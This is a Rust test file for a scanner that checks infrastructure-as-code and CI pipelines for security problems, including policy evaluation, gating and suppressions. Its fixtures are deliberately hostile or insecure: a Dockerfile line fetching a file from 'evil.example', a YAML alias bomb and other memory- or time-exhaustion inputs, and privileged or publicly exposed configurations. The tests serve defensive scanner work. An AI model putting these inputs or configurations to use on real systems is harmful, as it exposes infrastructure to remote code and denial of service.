//! Issue 8: IaC and pipeline scanning end to end, conftest-style user policies, `policy
//! test`, `policy eval`, the Rego gate and `palisade gate`.

use std::fmt::Write as _;
use std::path::Path;

use crate::files::{json, palisade_with_stdin};
use crate::{demo_dir, palisade, stderr, stdout};

fn write(dir: &Path, rel: &str, text: &str) {
    let p = dir.join(rel);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, text).unwrap();
}

fn rules_at(report: &serde_json::Value) -> Vec<(String, u64, String)> {
    let mut v: Vec<_> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["location"]["path"].as_str().unwrap().to_owned(),
                f["location"]["start_line"].as_u64().unwrap(),
                f["rule_id"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    v.sort();
    v
}

/// The conftest-style policy from docs/policies.md, in the v0 syntax.
const CONFTEST_POLICY: &str = r#"package main

deny[msg] {
  input.kind == "Deployment"
  not input.spec.template.spec.securityContext.runAsNonRoot
  msg := sprintf("%s must set runAsNonRoot", [input.metadata.name])
}

warn[msg] {
  input.kind == "Service"
  input.spec.type == "NodePort"
  msg := "NodePort services bypass the ingress"
}
"#;

const DEPLOYMENT: &str = "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  template:\n    spec:\n      containers:\n        - name: app\n          image: nginx:1.27\n---\napiVersion: v1\nkind: Service\nmetadata:\n  name: web\nspec:\n  type: NodePort\n";

#[test]
fn issue8_conftest_policy_runs_unmodified_deny_fails_and_warn_does_not() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "policy/k8s.rego", CONFTEST_POLICY);
    write(dir.path(), "deploy.yaml", DEPLOYMENT);
    let out = palisade(
        &[
            "scan",
            ".",
            "--scanners",
            "iac",
            "--policy",
            "policy",
            "--fail-on",
            "critical",
            "--format",
            "json",
        ],
        dir.path(),
    );
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let r = json(&out);
    let user: Vec<_> = rules_at(&r)
        .into_iter()
        .filter(|(_, _, id)| id.starts_with("policy-"))
        .collect();
    assert_eq!(
        user,
        [
            ("deploy.yaml".to_owned(), 1, "policy-deny".to_owned()),
            ("deploy.yaml".to_owned(), 12, "policy-warn".to_owned())
        ]
    );
    let deny = r["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule_id"] == "policy-deny")
        .unwrap();
    assert_eq!(deny["message"], "web must set runAsNonRoot");
    assert_eq!(deny["properties"]["policy_rule"], "main.deny");
    let reasons = r["gate"]["reasons"].as_array().unwrap();
    assert!(
        reasons.iter().any(|m| m
            .as_str()
            .unwrap()
            .starts_with("policy main.deny denied deploy.yaml:1")),
        "{reasons:?}"
    );
    let digests: Vec<&str> = r["gate"]["policies"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["path"].as_str().unwrap())
        .collect();
    assert_eq!(digests, ["builtin:gate.rego", "policy/k8s.rego"]);

    // With the Deployment fixed, only the warning is left: the gate passes.
    write(
        dir.path(),
        "deploy.yaml",
        &DEPLOYMENT.replace(
            "    spec:\n      containers",
            "    spec:\n      securityContext:\n        runAsNonRoot: true\n      containers",
        ),
    );
    let out = palisade(
        &[
            "scan",
            ".",
            "--scanners",
            "iac",
            "--policy",
            "policy",
            "--fail-on",
            "critical",
            "--format",
            "json",
        ],
        dir.path(),
    );
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    let ids: Vec<String> = rules_at(&json(&out))
        .into_iter()
        .map(|x| x.2)
        .filter(|id| id.starts_with("policy-"))
        .collect();
    assert_eq!(ids, ["policy-warn"]);
    // A warning never fails the gate, even at the lowest threshold: the gate counts every
    // active finding but the warning.
    std::fs::write(
        dir.path().join("only-service.yaml"),
        "apiVersion: v1\nkind: Service\nmetadata:\n  name: s\nspec:\n  type: NodePort\n",
    )
    .unwrap();
    let out = palisade(
        &[
            "scan",
            "only-service.yaml",
            "--scanners",
            "iac",
            "--policy",
            "policy",
            "--fail-on",
            "info",
            "--isolated",
            "--format",
            "json",
        ],
        dir.path(),
    );
    let r = json(&out);
    let rules: Vec<&str> = r["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule_id"].as_str().unwrap())
        .collect();
    assert!(rules.contains(&"policy-warn"), "{rules:?}");
    let n = rules.iter().filter(|id| **id != "policy-warn").count();
    let want = format!(
        "{n} unsuppressed finding{} at or above severity info",
        if n == 1 { "" } else { "s" }
    );
    assert_eq!(
        r["gate"]["reasons"],
        serde_json::json!([want]),
        "the warning is not counted"
    );
}

#[test]
fn issue8_rego_v1_policies_and_namespaces() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "policy/tf.rego",
        "package terraform\nimport rego.v1\n\ndeny contains {\"msg\": sprintf(\"bucket %s has no tags\", [name]), \"severity\": \"medium\", \"path\": [\"resource\", \"aws_s3_bucket\", name]} if {\n  some name, b in input.resource.aws_s3_bucket\n  not b.tags\n}\n",
    );
    write(
        dir.path(),
        "infra/main.tf",
        "\n\nresource \"aws_s3_bucket\" \"logs\" {\n  bucket = \"logs\"\n}\n",
    );
    // Package `main` only by default: nothing.
    let out = palisade(
        &[
            "scan",
            ".",
            "--scanners",
            "iac",
            "--policy",
            "policy",
            "--format",
            "json",
        ],
        dir.path(),
    );
    assert!(
        rules_at(&json(&out))
            .iter()
            .all(|x| !x.2.starts_with("policy-"))
    );
    let out = palisade(
        &[
            "scan",
            ".",
            "--scanners",
            "iac",
            "--policy",
            "policy",
            "--namespace",
            "terraform",
            "--format",
            "json",
        ],
        dir.path(),
    );
    let r = json(&out);
    let f = r["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule_id"] == "policy-deny")
        .expect("policy finding");
    assert_eq!(f["location"]["path"], "infra/main.tf");
    assert_eq!(
        f["location"]["start_line"], 3,
        "the result's path puts it on the resource"
    );
    assert_eq!(f["severity"], "medium");
    assert_eq!(
        out.status.code(),
        Some(1),
        "a deny fails the gate whatever its severity"
    );
}

#[test]
fn issue8_a_policy_that_does_not_compile_is_exit_2_naming_file_and_line() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "policy/bad.rego",
        "package main\nimport rego.v1\n\ndeny contains msg if {\n  msg := \n}\n",
    );
    write(dir.path(), "Dockerfile", "FROM scratch\n");
    let out = palisade(&["scan", ".", "--policy", "policy"], dir.path());
    assert_eq!(out.status.code(), Some(2));
    let err = stderr(&out);
    assert!(err.contains("policy/bad.rego:5"), "{err}");
    let out = palisade(&["policy", "test", "policy"], dir.path());
    assert_eq!(out.status.code(), Some(2));
    // Whichever scanners run: the policy folder is compiled before anything is scanned.
    let out = palisade(
        &["scan", ".", "--scanners", "secrets", "--policy", "policy"],
        dir.path(),
    );
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("policy/bad.rego:5"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn issue8_policy_test_passes_and_fails_as_opa_test() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "policy/k8s.rego", CONFTEST_POLICY);
    write(
        dir.path(),
        "policy/k8s_test.rego",
        "package main\n\ntest_deployment_without_run_as_non_root {\n  deny[\"web must set runAsNonRoot\"] with input as {\"kind\": \"Deployment\", \"metadata\": {\"name\": \"web\"}, \"spec\": {\"template\": {\"spec\": {}}}}\n}\n\ntest_fixed_deployment {\n  count(deny) == 0 with input as {\"kind\": \"Deployment\", \"metadata\": {\"name\": \"web\"}, \"spec\": {\"template\": {\"spec\": {\"securityContext\": {\"runAsNonRoot\": true}}}}}\n}\n",
    );
    let out = palisade(&["policy", "test", "policy"], dir.path());
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    let text = stdout(&out);
    assert!(
        text.contains("PASS: data.main.test_deployment_without_run_as_non_root"),
        "{text}"
    );
    assert!(text.contains("2 passed, 0 failed, 2 total"), "{text}");
    write(
        dir.path(),
        "policy/wrong_test.rego",
        "package main\n\ntest_wrong_message {\n  deny[\"something else\"] with input as {\"kind\": \"Deployment\", \"metadata\": {\"name\": \"web\"}, \"spec\": {\"template\": {\"spec\": {}}}}\n}\n",
    );
    let out = palisade(&["policy", "test", "policy"], dir.path());
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stdout(&out).contains("FAIL: data.main.test_wrong_message"),
        "{}",
        stdout(&out)
    );
}

#[test]
fn issue8_policy_eval_shows_the_input_and_results() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "policy/k8s.rego", CONFTEST_POLICY);
    write(dir.path(), "deploy.yaml", DEPLOYMENT);
    write(
        dir.path(),
        "tf/main.tf",
        "variable \"acl\" {\n  default = \"public-read\"\n}\nresource \"aws_s3_bucket\" \"b\" {\n  acl = var.acl\n}\n",
    );
    let out = palisade(
        &["policy", "eval", "deploy.yaml", "--policy", "policy"],
        dir.path(),
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v[0]["kind"], "kubernetes");
    assert_eq!(v[0]["input"]["metadata"]["name"], "web");
    assert_eq!(v[0]["results"][0]["rule"], "main.deny");
    assert_eq!(v[1]["results"][0]["effect"], "warn");
    let out = palisade(&["policy", "eval", "tf/main.tf"], dir.path());
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        v[0]["input"]["resource"]["aws_s3_bucket"]["b"]["acl"], "public-read",
        "variables are evaluated"
    );
}

#[test]
fn issue8_gate_command_reevaluates_a_saved_report() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "Dockerfile",
        "FROM alpine:3.20@sha256:beefdbd8a1da6d2915566fde36db9db0b524eb737fc57cd1367effd16dc0d06d\nRUN sudo apk add curl\nUSER app\n",
    );
    let out = palisade(
        &[
            "scan",
            ".",
            "--scanners",
            "iac",
            "--format",
            "json",
            "--output",
            "report.json",
        ],
        dir.path(),
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    // The built-in gate at the report's threshold (high): the low finding passes.
    let out = palisade(&["gate", "report.json"], dir.path());
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    assert!(
        stdout(&out).contains("builtin:gate.rego  sha256:"),
        "{}",
        stdout(&out)
    );
    // A stricter threshold fails it.
    let out = palisade(&["gate", "report.json", "--fail-on", "low"], dir.path());
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stdout(&out).contains("1 unsuppressed finding at or above severity low"),
        "{}",
        stdout(&out)
    );
    // A user rule in package palisade.gate extends it.
    write(
        dir.path(),
        "gate/extra.rego",
        "package palisade.gate\nimport rego.v1\n\ndeny contains {\"code\": \"no-sudo\", \"msg\": \"sudo in a Dockerfile\"} if {\n  some f in input.findings\n  f.rule_id == \"dockerfile-sudo\"\n}\n",
    );
    let out = palisade(&["gate", "report.json", "--policy", "gate"], dir.path());
    assert_eq!(out.status.code(), Some(1));
    assert!(stdout(&out).contains("sudo in a Dockerfile"));
    assert!(stdout(&out).contains("gate/extra.rego  sha256:"));
    // Replacing the built-in policy with one that allows everything passes.
    write(
        dir.path(),
        "gate/extra.rego",
        "package palisade.gate\nimport rego.v1\n\ndeny := set()\n",
    );
    let out = palisade(
        &[
            "gate",
            "report.json",
            "--policy",
            "gate",
            "--fail-on",
            "low",
            "--no-default-policy",
        ],
        dir.path(),
    );
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    // Not a report: a usage error.
    write(dir.path(), "bogus.json", "{}");
    assert_eq!(
        palisade(&["gate", "bogus.json"], dir.path()).status.code(),
        Some(2)
    );
}

#[test]
fn issue8_demo_gate_fails_then_passes_once_findings_are_suppressed_with_reasons() {
    let dir = tempfile::tempdir().unwrap();
    for rel in [
        "Dockerfile",
        "deploy/k8s/deployment.yaml",
        "deploy/terraform/main.tf",
        "deploy/terraform/variables.tf",
        ".github/workflows/ci.yml",
    ] {
        write(
            dir.path(),
            rel,
            &std::fs::read_to_string(demo_dir().join(rel)).unwrap(),
        );
    }
    let out = palisade(
        &[
            "scan",
            ".",
            "--scanners",
            "iac,pipeline",
            "--format",
            "json",
        ],
        dir.path(),
    );
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let r = json(&out);
    let mut config = String::new();
    for f in r["findings"].as_array().unwrap() {
        let _ = write!(
            config,
            "[[suppress]]\nrule = \"{}\"\npath = \"{}\"\nfingerprint = \"{}\"\nreason = \"accepted for the demo: planted on purpose\"\nowner = \"security@example.org\"\nexpires = 2099-01-01\n\n",
            f["rule_id"].as_str().unwrap(),
            f["location"]["path"].as_str().unwrap(),
            &f["fingerprint"].as_str().unwrap()[..8]
        );
    }
    write(dir.path(), "palisade.toml", &config);
    let out = palisade(
        &[
            "scan",
            ".",
            "--scanners",
            "iac,pipeline",
            "--format",
            "json",
        ],
        dir.path(),
    );
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    let r = json(&out);
    assert_eq!(r["summary"]["active"], 0);
    assert!(r["summary"]["suppressed"].as_u64().unwrap() >= 20);
    assert_eq!(r["gate"]["status"], "passed");
}

#[test]
fn issue8_inline_suppressions_in_each_files_own_syntax() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "Dockerfile",
        "FROM alpine:3.20@sha256:beefdbd8a1da6d2915566fde36db9db0b524eb737fc57cd1367effd16dc0d06d\n# palisade:ignore[dockerfile-user-root] the agent needs raw sockets; tracked in SEC-12\nUSER root\n",
    );
    write(
        dir.path(),
        "main.tf",
        "resource \"aws_db_instance\" \"db\" {\n  publicly_accessible = true // palisade:ignore[tf-aws-rds-public] reporting replica behind an allow-list\n  storage_encrypted   = true # palisade:ignore[tf-aws-rds-unencrypted]\n}\n",
    );
    let out = palisade(
        &["scan", ".", "--scanners", "iac", "--format", "json"],
        dir.path(),
    );
    let r = json(&out);
    let suppressed: Vec<&str> = r["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["suppression"]["kind"] == "inline")
        .map(|f| f["rule_id"].as_str().unwrap())
        .collect();
    assert!(
        suppressed.contains(&"dockerfile-user-root"),
        "{suppressed:?}"
    );
    assert!(suppressed.contains(&"tf-aws-rds-public"), "{suppressed:?}");
    let codes: Vec<&str> = r["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["code"].as_str().unwrap())
        .collect();
    assert!(
        codes.contains(&"suppression-missing-reason"),
        "a suppression without a reason is reported: {codes:?}"
    );
}

#[test]
fn issue8_rendered_helm_output_on_stdin() {
    let dir = tempfile::tempdir().unwrap();
    let rendered = "---\n# Source: chart/templates/pod.yaml\napiVersion: v1\nkind: Pod\nmetadata:\n  name: p\nspec:\n  containers:\n    - name: c\n      image: nginx:1.27\n      securityContext:\n        privileged: true\n";
    let out = palisade_with_stdin(
        &[
            "scan",
            "-",
            "--stdin-filename",
            "rendered.yaml",
            "--format",
            "json",
        ],
        dir.path(),
        rendered.as_bytes(),
    );
    let r = json(&out);
    assert!(
        rules_at(&r).contains(&(
            "rendered.yaml".to_owned(),
            12,
            "k8s-privileged-container".to_owned()
        )),
        "{:?}",
        rules_at(&r)
    );
}

#[test]
fn issue8_bad_input_gets_a_diagnostic_and_the_scan_goes_on() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "broken.tf",
        "resource \"aws_s3_bucket\" \"b\" {\n  acl = \n",
    );
    let mut bomb =
        String::from("apiVersion: v1\nkind: ConfigMap\na: &a [x, x, x, x, x, x, x, x, x, x]\n");
    let mut prev = 'a';
    for c in 'b'..='k' {
        let refs = vec![format!("*{prev}"); 10].join(", ");
        let _ = writeln!(bomb, "{c}: &{c} [{refs}]");
        prev = c;
    }
    write(dir.path(), "bomb.yaml", &bomb);
    write(
        dir.path(),
        "deep.yaml",
        &format!("apiVersion: v1\nkind: Pod\nspec: {}\n", "[".repeat(50_000)),
    );
    write(
        dir.path(),
        "k8s/pod.yaml",
        "apiVersion: v1\nkind: Pod\nmetadata:\n  name: p\nspec:\n  hostPID: true\n  containers:\n    - name: c\n      image: nginx:1.27\n",
    );
    let out = palisade(
        &["scan", ".", "--scanners", "iac", "--format", "json"],
        dir.path(),
    );
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let r = json(&out);
    let diags: Vec<(String, u64)> = r["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|d| d["code"] == "iac-parse-error")
        .map(|d| {
            (
                d["path"].as_str().unwrap().to_owned(),
                d["line"].as_u64().unwrap_or(0),
            )
        })
        .collect();
    let paths: Vec<&str> = diags.iter().map(|d| d.0.as_str()).collect();
    assert!(
        paths.contains(&"broken.tf")
            && paths.contains(&"bomb.yaml")
            && paths.contains(&"deep.yaml"),
        "{diags:?}"
    );
    assert!(
        diags.iter().all(|d| d.1 > 0),
        "every diagnostic names a line: {diags:?}"
    );
    assert!(rules_at(&r).contains(&("k8s/pod.yaml".to_owned(), 6, "k8s-host-pid".to_owned())));
}

#[test]
fn issue8_crafted_files_cannot_hide_problems_hang_or_exhaust_memory() {
    let dir = tempfile::tempdir().unwrap();
    // Brackets in a string are not nesting: the public database is still found.
    write(
        dir.path(),
        "a/main.tf",
        &format!(
            "resource \"aws_db_instance\" \"db\" {{\n  description = \"{}\"\n  publicly_accessible = true\n}}\n",
            "[".repeat(200)
        ),
    );
    // `<<EOF` in quotes is not a heredoc: it must not swallow the instructions below.
    write(
        dir.path(),
        "b/Dockerfile",
        "FROM alpine:3.20\nRUN echo \"see <<EOF for details\"\nUSER root\nADD http://evil.example/x /x\n",
    );
    // A module that calls itself ten times: a cycle, not 10^8 evaluations.
    let mut calls = String::new();
    for i in 1..=10 {
        let _ = writeln!(calls, "module \"m{i}\" {{\n  source = \"./\"\n}}");
    }
    write(dir.path(), "c/main.tf", &calls);
    // Locals that square a string at each step: a note, not gigabytes.
    let mut locals = format!("locals {{\n  a0 = \"{}\"\n", "x".repeat(80));
    for i in 1..=6 {
        let _ = writeln!(
            locals,
            "  a{i} = replace(local.a{}, \"x\", local.a{})",
            i - 1,
            i - 1
        );
    }
    locals.push_str("}\nresource \"aws_db_instance\" \"d\" {\n  publicly_accessible = true\n  identifier = local.a6\n}\n");
    write(dir.path(), "d/main.tf", &locals);
    let out = palisade(
        &[
            "scan",
            ".",
            "--scanners",
            "iac",
            "--isolated",
            "--format",
            "json",
        ],
        dir.path(),
    );
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let r = json(&out);
    let found = rules_at(&r);
    for want in [
        ("a/main.tf", 3, "tf-aws-rds-public"),
        ("b/Dockerfile", 3, "dockerfile-user-root"),
        ("b/Dockerfile", 4, "dockerfile-add-remote-url"),
        ("d/main.tf", 11, "tf-aws-rds-public"),
    ] {
        assert!(
            found.contains(&(want.0.to_owned(), want.1, want.2.to_owned())),
            "{want:?} not in {found:?}"
        );
    }
    let codes: Vec<&str> = r["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["code"].as_str().unwrap())
        .collect();
    assert!(codes.contains(&"iac-evaluation-limit"), "{codes:?}");
    assert!(codes.contains(&"iac-module-not-followed"), "{codes:?}");
    assert!(!codes.contains(&"iac-parse-error"), "{codes:?}");
}

#[test]
fn issue8_urls_in_messages_lose_credentials_and_queries() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "Dockerfile",
        "FROM alpine:3.20\nADD https://deploy:s3cr3tT0ken@files.example/agent.tgz?token=q5ecretQ /opt/\nUSER app\n",
    );
    let out = palisade(
        &[
            "scan",
            ".",
            "--scanners",
            "iac",
            "--isolated",
            "--format",
            "json",
        ],
        dir.path(),
    );
    let text = stdout(&out);
    assert!(text.contains("https://files.example/agent.tgz?"), "{text}");
    assert!(
        !text.contains("s3cr3tT0ken") && !text.contains("q5ecretQ"),
        "{text}"
    );
}

#[test]
fn issue8_odd_values_do_not_fail_the_scanner() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "main.tf",
        "resource \"aws_security_group\" \"odd\" {\n  ingress {\n    from_port   = \"abc\"\n    to_port     = \"x\"\n    cidr_blocks = [\"0.0.0.0/0\"]\n  }\n}\n\nresource \"azurerm_network_security_rule\" \"range\" {\n  direction              = \"Inbound\"\n  access                 = \"Allow\"\n  destination_port_range = \"1000-2000\"\n  source_address_prefix  = \"*\"\n}\n\nresource \"aws_security_group\" \"ssh\" {\n  ingress {\n    from_port   = 22\n    to_port     = 22\n    cidr_blocks = [\"0.0.0.0/0\"]\n  }\n}\n",
    );
    let out = palisade(
        &[
            "scan",
            ".",
            "--scanners",
            "iac",
            "--isolated",
            "--format",
            "json",
        ],
        dir.path(),
    );
    let r = json(&out);
    assert_eq!(r["scanners"][0]["status"], "ok", "{}", stderr(&out));
    assert!(
        rules_at(&r).contains(&(
            "main.tf".to_owned(),
            20,
            "tf-aws-sg-ssh-open-world".to_owned()
        )),
        "{:?}",
        rules_at(&r)
    );
    assert_eq!(out.status.code(), Some(1));
}
